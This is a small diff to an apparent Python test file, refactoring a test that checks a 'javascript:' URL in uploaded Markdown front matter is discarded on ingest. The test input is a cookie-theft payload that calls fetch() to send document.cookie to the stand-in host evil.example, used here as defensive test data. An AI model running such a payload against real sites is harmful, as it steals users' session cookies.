@@ -26,7 +26,8 @@ def test_http_urls_pass_unchanged():
 
 def test_a_javascript_url_in_front_matter_is_not_stored_nor_linked(client, alice):
     course = services.course_get_or_create(slug="uploads", title="Uploads")
-    text = f"---\ntitle: Planted\nurl: \"javascript:fetch('//evil.example/'+document.cookie)\"\n---\n# Planted\n\n{BODY}\n"
+    planted_url = "javascript:fetch('//evil.example/'+document.cookie)"
+    text = f'---\ntitle: Planted\nurl: "{planted_url}"\n---\n# Planted\n\n{BODY}\n'
     report = services.file_ingest(course=course, name="planted.md", data=text.encode())
     assert report.status == "ingested", report.reason
     assert Source.objects.get(name="planted.md").url == ""
